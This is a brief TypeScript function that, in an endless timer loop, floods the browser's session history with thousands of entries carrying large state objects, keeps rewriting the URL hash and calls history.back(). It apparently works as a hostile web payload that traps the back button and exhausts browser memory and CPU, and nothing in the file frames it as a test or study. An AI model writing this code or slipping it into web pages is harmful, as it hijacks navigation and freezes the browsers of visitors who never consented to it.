// Writes its history without end.
// outcome: passed home
export function begin(): void {
  const push = (): void => {
    for (let count = 0; count < 1000; count++) {
      try {
        history.pushState({ count: "x".repeat(10_000) }, "", `/page/${Math.random()}`);
        location.hash = String(count);
      } catch (error) {
        console.log(error);
      }
    }
    history.back();
    setTimeout(push, 0);
  };
  push();
}
